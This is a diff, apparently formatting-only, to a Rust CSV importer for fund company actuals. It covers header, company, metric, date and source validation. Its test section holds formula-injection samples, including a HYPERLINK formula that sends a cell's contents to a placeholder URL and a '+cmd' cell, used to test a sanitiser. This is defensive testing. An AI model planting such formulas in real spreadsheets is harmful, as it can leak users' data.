@@ -19,14 +19,7 @@ use crate::fund::decide::{FUTURE_TOLERANCE_HOURS, MAX_AMOUNT};
 use crate::fund::{ActualSource, Metric};
 
 /// Columns of the import, required first.
-pub const CSV_COLUMNS: [&str; 6] = [
-    "company",
-    "metric",
-    "value",
-    "effective_date",
-    "period",
-    "source",
-];
+pub const CSV_COLUMNS: [&str; 6] = ["company", "metric", "value", "effective_date", "period", "source"];
 const REQUIRED: [&str; 4] = ["company", "metric", "value", "effective_date"];
 
 /// Most data rows in one file (one append transaction).
@@ -98,20 +91,12 @@ impl CompanyDirectory {
     /// A company id or its exact (case-sensitive) name.
     pub fn resolve(&self, raw: &str) -> Result<Uuid, String> {
         if let Ok(id) = raw.parse::<Uuid>() {
-            return if self.ids.contains(&id) {
-                Ok(id)
-            } else {
-                Err(format!("no company with id {id} in this fund"))
-            };
+            return if self.ids.contains(&id) { Ok(id) } else { Err(format!("no company with id {id} in this fund")) };
         }
         match self.by_name.get(raw).map(Vec::as_slice) {
             Some([id]) => Ok(*id),
-            Some(_) => Err(format!(
-                "{raw:?} names several companies; use the company id"
-            )),
-            None => Err(format!(
-                "no company named {raw:?} in this fund (names must match exactly)"
-            )),
+            Some(_) => Err(format!("{raw:?} names several companies; use the company id")),
+            None => Err(format!("no company named {raw:?} in this fund (names must match exactly)")),
         }
     }
 }
@@ -125,32 +110,15 @@ pub struct CsvContext<'a> {
 }
 
 /// Parses and validates the whole file; all errors, or all rows.
-pub fn parse_actuals_csv(
-    bytes: &[u8],
-    ctx: &CsvContext<'_>,
-) -> Result<Vec<CsvActual>, Vec<RowError>> {
-    let bytes = bytes
-        .strip_prefix(b"\xEF\xBB\xBF".as_slice())
-        .unwrap_or(bytes);
-    let mut reader = csv::ReaderBuilder::new()
-        .flexible(true)
-        .trim(csv::Trim::All)
-        .from_reader(bytes);
-    let header_error = |reason: String, column: &str| {
-        vec![RowError {
-            line: 1,
-            column: column.to_string(),
-            reason,
-        }]
-    };
+pub fn parse_actuals_csv(bytes: &[u8], ctx: &CsvContext<'_>) -> Result<Vec<CsvActual>, Vec<RowError>> {
+    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF".as_slice()).unwrap_or(bytes);
+    let mut reader = csv::ReaderBuilder::new().flexible(true).trim(csv::Trim::All).from_reader(bytes);
+    let header_error = |reason: String, column: &str| vec![RowError { line: 1, column: column.to_string(), reason }];
     let headers = match reader.byte_headers() {
         Ok(h) => h.clone(),
         Err(e) => return Err(header_error(format!("unreadable header: {e}"), "header")),
     };
-    let names: Vec<String> = headers
-        .iter()
-        .map(|h| String::from_utf8_lossy(h).trim().to_ascii_lowercase())
-        .collect();
+    let names: Vec<String> = headers.iter().map(|h| String::from_utf8_lossy(h).trim().to_ascii_lowercase()).collect();
     let columns = columns_of(&names)?;
     let mut rows = Vec::new();
     let mut errors = Vec::new();
@@ -161,32 +129,20 @@ pub fn parse_actuals_csv(
             Ok(false) => break,
             Ok(true) => {}
             Err(e) => {
-                errors.push(RowError {
-                    line,
-                    column: "row".into(),
-                    reason: format!("unreadable: {e}"),
-                });
+                errors.push(RowError { line, column: "row".into(), reason: format!("unreadable: {e}") });
                 break;
             }
         }
         let line = record.position().map_or(line, |p| p.line());
         if rows.len() + errors.len() >= MAX_CSV_ROWS {
-            errors.push(RowError {
-                line,
-                column: "row".into(),
-                reason: format!("a file may hold at most {MAX_CSV_ROWS} rows"),
-            });
+            errors.push(RowError { line, column: "row".into(), reason: format!("a file may hold at most {MAX_CSV_ROWS} rows") });
             break;
         }
         if record.len() != names.len() {
             errors.push(RowError {
                 line,
                 column: "row".into(),
-                reason: format!(
-                    "has {} fields; the header has {}",
-                    record.len(),
-                    names.len()
-                ),
+                reason: format!("has {} fields; the header has {}", record.len(), names.len()),
             });
             continue;
         }
@@ -196,11 +152,7 @@ pub fn parse_actuals_csv(
         }
     }
     if rows.is_empty() && errors.is_empty() {
-        errors.push(RowError {
-            line: 2,
-            column: "row".into(),
-            reason: "the file has no data rows".into(),
-        });
+        errors.push(RowError { line: 2, column: "row".into(), reason: "the file has no data rows".into() });
     }
     if errors.is_empty() {
         Ok(rows)
@@ -217,11 +169,7 @@ fn columns_of(names: &[String]) -> Result<HashMap<&'static str, usize>, Vec<RowE
         match CSV_COLUMNS.iter().find(|c| **c == name) {
             Some(c) => {
                 if columns.insert(*c, i).is_some() {
-                    errors.push(RowError {
-                        line: 1,
-                        column: name.clone(),
-                        reason: "column appears twice".into(),
-                    });
+                    errors.push(RowError { line: 1, column: name.clone(), reason: "column appears twice".into() });
                 }
             }
             None => errors.push(RowError {
@@ -233,11 +181,7 @@ fn columns_of(names: &[String]) -> Result<HashMap<&'static str, usize>, Vec<RowE
     }
     for c in REQUIRED {
         if !columns.contains_key(c) {
-            errors.push(RowError {
-                line: 1,
-                column: c.to_string(),
-                reason: "required column is missing from the header".into(),
-            });
+            errors.push(RowError { line: 1, column: c.to_string(), reason: "required column is missing from the header".into() });
         }
     }
     if errors.is_empty() {
@@ -254,13 +198,7 @@ fn parse_row(
     ctx: &CsvContext<'_>,
 ) -> Result<CsvActual, Vec<RowError>> {
     let mut errors = Vec::new();
-    let mut fail = |column: &str, reason: String| {
-        errors.push(RowError {
-            line,
-            column: column.to_string(),
-            reason,
-        })
-    };
+    let mut fail = |column: &str, reason: String| errors.push(RowError { line, column: column.to_string(), reason });
     let mut cell = |column: &'static str| -> Option<String> {
         let i = *columns.get(column)?;
         match std::str::from_utf8(&record[i]) {
@@ -284,19 +222,17 @@ fn parse_row(
     };
     let value = match get("value") {
         None => Err("is required".to_string()),
-        Some(s) => crate::amount::parse_strict(&s).map_err(|_| {
-            format!("{s:?} is not a number (use . for decimals, no thousands separators)")
-        }),
+        Some(s) => crate::amount::parse_strict(&s).map_err(|_| format!("{s:?} is not a number (use . for decimals, no thousands separators)")),
     };
     let effective_at = match get("effective_date") {
         None => Err("is required".to_string()),
         Some(s) => parse_day_or_moment(&s).and_then(|t| check_effective(t, ctx)),
     };
-    let period = get("period").map(|s| match NaiveDate::parse_from_str(&s, "%Y-%m-%d") {
-        Ok(d) => crate::dates::check_day(d),
-        Err(_) => Err(format!(
-            "{s:?} is not a date (YYYY-MM-DD, the last day of the period)"
-        )),
+    let period = get("period").map(|s| {
+        match NaiveDate::parse_from_str(&s, "%Y-%m-%d") {
+            Ok(d) => crate::dates::check_day(d),
+            Err(_) => Err(format!("{s:?} is not a date (YYYY-MM-DD, the last day of the period)")),
+        }
     });
     let source = match get("source") {
         None => Ok(ActualSource::Import),
@@ -304,10 +240,7 @@ fn parse_row(
     };
     let effective_at = match (&company, effective_at) {
         (Ok(id), Ok(t)) => match ctx.companies.added_at.get(id) {
-            Some(added) if t < *added => Err(format!(
-                "is before the company was added ({})",
-                added.date_naive()
-            )),
+            Some(added) if t < *added => Err(format!("is before the company was added ({})", added.date_naive())),
             _ => Ok(t),
         },
         (_, t) => t,
@@ -346,16 +279,10 @@ fn parse_row(
 /// `REVENUE`, `revenue`, `Cash burn`, `cash-burn` all name a metric.
 pub fn parse_metric(s: &str) -> Result<Metric, String> {
     let norm = s.trim().to_ascii_uppercase().replace([' ', '-'], "_");
-    Metric::ALL
-        .into_iter()
-        .find(|m| m.as_str() == norm)
-        .ok_or_else(|| {
-            let names: Vec<&str> = Metric::ALL.iter().map(|m| m.as_str()).collect();
-            format!(
-                "{s:?} is not a metric; expected one of {}",
-                names.join(", ")
-            )
-        })
+    Metric::ALL.into_iter().find(|m| m.as_str() == norm).ok_or_else(|| {
+        let names: Vec<&str> = Metric::ALL.iter().map(|m| m.as_str()).collect();
+        format!("{s:?} is not a metric; expected one of {}", names.join(", "))
+    })
 }
 
 pub fn parse_source(s: &str) -> Result<ActualSource, String> {
@@ -363,9 +290,7 @@ pub fn parse_source(s: &str) -> Result<ActualSource, String> {
         "manual" => Ok(ActualSource::Manual),
         "import" => Ok(ActualSource::Import),
         "api" => Ok(ActualSource::Api),
-        _ => Err(format!(
-            "{s:?} is not a source; expected manual, import or api"
-        )),
+        _ => Err(format!("{s:?} is not a source; expected manual, import or api")),
     }
 }
 
@@ -381,10 +306,7 @@ fn check_effective(t: DateTime<Utc>, ctx: &CsvContext<'_>) -> Result<DateTime<Ut
     }
     if let Some(start) = ctx.fund_start {
         if t < start {
-            return Err(format!(
-                "is before the fund existed ({})",
-                start.date_naive()
-            ));
+            return Err(format!("is before the fund existed ({})", start.date_naive()));
         }
     }
     Ok(t)
@@ -407,10 +329,7 @@ mod tests {
 
     #[test]
     fn spreadsheet_formulas_are_neutralised_and_numbers_kept() {
-        assert_eq!(
-            spreadsheet_safe("=HYPERLINK(\"https://x/?\"&B2,\"x\")"),
-            "'=HYPERLINK(\"https://x/?\"&B2,\"x\")"
-        );
+        assert_eq!(spreadsheet_safe("=HYPERLINK(\"https://x/?\"&B2,\"x\")"), "'=HYPERLINK(\"https://x/?\"&B2,\"x\")");
         for risky in ["+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=1"] {
             assert_eq!(spreadsheet_safe(risky), format!("'{risky}"), "{risky:?}");
         }
@@ -418,11 +337,7 @@ mod tests {
             assert_eq!(spreadsheet_safe(kept), kept, "{kept:?}");
         }
         for cell in CSV_TEMPLATE.lines().flat_map(|l| l.split(',')) {
-            assert_eq!(
-                spreadsheet_safe(cell),
-                cell,
-                "the template's cells are safe as they are"
-            );
+            assert_eq!(spreadsheet_safe(cell), cell, "the template's cells are safe as they are");
         }
     }
 }
